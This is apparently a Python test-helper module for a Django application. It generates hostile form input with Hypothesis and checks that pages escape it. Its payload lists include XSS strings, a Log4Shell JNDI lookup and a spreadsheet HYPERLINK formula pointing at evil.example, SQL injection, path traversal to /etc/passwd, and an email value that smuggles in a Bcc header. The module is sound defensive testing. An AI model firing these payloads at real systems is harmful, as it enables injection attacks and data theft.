"""Hostile input for property tests: text that attacks pages, mail, spreadsheets and parsers.

What the Django test client can send: any str without lone surrogates (it encodes UTF-8).
"""

import datetime
import html
from contextlib import contextmanager

from django.db import transaction
from hypothesis import settings
from hypothesis import strategies as st


def fewer(divisor):
    """Settings for a secondary property: a fraction of the profile's examples."""
    return settings(max_examples=max(10, settings.default.max_examples // divisor))


# Fragments an attacker (or a clumsy paste) puts in a text field.
ATOMS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "javascript:alert(1)",
    "'",
    '"',
    "&",
    "&amp;",
    "&#60;script&#62;",
    "{{ request }}",
    "{% debug %}",
    "%(name)s",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    '=HYPERLINK("http://evil.example","clic")',
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\r\n",
    "\n",
    "\x00",
    "\x07",
    "\x0b",
    "\x1b[31m",
    "\u202e",  # right-to-left override
    "\u200b",  # zero width space
    "\ufeff",
    "\u2028",
    "\ufffd",
    "e\u0301",  # é, decomposed (NFD)
    "\u00e9",  # é, composed (NFC)
    "\ufb01",  # the ﬁ ligature (NFKC: fi)
    "\uff1cscript\uff1e",  # full-width < and >
    "\U0001f600",
    "../../etc/passwd",
    "%00",
    "%s%n%x",
    "\\",
    " ",
]
# Raw markup that must never reach a page unescaped (none of it is in our templates).
MARKERS = ["<script>alert(1)", "<img src=x onerror", "<svg onload", "</textarea><script>"]

_characters = st.characters(exclude_categories=("Cs",))  # lone surrogates cannot be encoded
hostile_text = st.one_of(
    st.lists(st.one_of(st.sampled_from(ATOMS), st.text(_characters, max_size=12)), max_size=6).map(
        "".join
    ),
    # Long strings cost nothing to generate this way.
    st.tuples(st.sampled_from(["x", "é", "<", "\U0001f600", "=1"]), st.integers(100, 3000)).map(
        lambda pair: pair[0] * pair[1]
    ),
)


def text_or_hostile(valid):
    """The valid answer or hostile text, about half and half."""
    return st.one_of(st.just(valid), hostile_text)


def choice_or_hostile(choices):
    return st.one_of(st.sampled_from(list(choices)), hostile_text)


def number_or_hostile(valid):
    return st.one_of(
        st.just(str(valid)),
        st.integers(-(10**30), 10**30).map(str),
        st.sampled_from(["1e3", "1.5", "NaN", "inf", "٣", "²", "0x10", "9" * 5000]),
        hostile_text,
    )


def date_or_hostile(valid):
    return st.one_of(
        st.just(valid),
        st.dates(datetime.date(1, 1, 1), datetime.date(9999, 12, 31)).map(datetime.date.isoformat),
        st.sampled_from(["2026-02-30", "99999-01-01", "0000-00-00", "2026/11/19", "19/11/2026"]),
        hostile_text,
    )


email_or_hostile = st.one_of(
    st.sampled_from(
        [
            '"<script>alert(1)</script>"@example.org',
            "a@example.org\r\nBcc: victim@example.org",
            "a@example.org,victim@example.org",
            "a+<b>@example.org",
            "é@exemple.québec",
            "@example.org",
        ]
    ),
    st.emails().map(str),
    hostile_text,
)


def assert_no_raw_markup(content):
    for marker in MARKERS:
        assert marker not in content, marker


def assert_typed_text_shown_escaped(content, data, fields):
    """A refused form gives back what was typed, escaped."""
    content = same_entities(content)
    for name in fields:
        assert html.escape(data[name]) in content, name


def same_entities(content):
    """Quotes written as Python's ``html.escape`` writes them. Django's templates and the
    Jinja2 form renderer (public forms) escape quotes with other, equivalent entities."""
    return content.replace("&#34;", "&quot;").replace("&#39;", "&#x27;")


class _Rollback(Exception):
    pass


@contextmanager
def rolled_back():
    """Run one example in a savepoint that is always rolled back: nothing leaks to the next."""
    try:
        with transaction.atomic():
            yield
            raise _Rollback
    except _Rollback:
        pass


# A payload for every free-text field, and what it must look like once escaped in HTML.
SCRIPT = "<script>alert(1)</script>\"'&"
IMG = "<img src=x onerror=alert(1)>"
PAYLOAD = f"{SCRIPT} {IMG}"
RAW_MARKUP = ("<script>alert(1)", "<img src=x", "onerror=alert(1)>")
ESCAPED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&#x27;&amp; &lt;img src=x onerror=alert(1)&gt;"
)
# The quoted local part of an email address may hold markup too.
HOSTILE_EMAIL = '"<script>alert(1)</script>"@example.org'


def assert_escaped(content, *, expect=True):
    """No raw markup of PAYLOAD in ``content``; with ``expect``, its escaped form is there."""
    for raw in RAW_MARKUP:
        assert raw not in content, raw
    if expect:
        assert ESCAPED in same_entities(content)


def body_of(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content
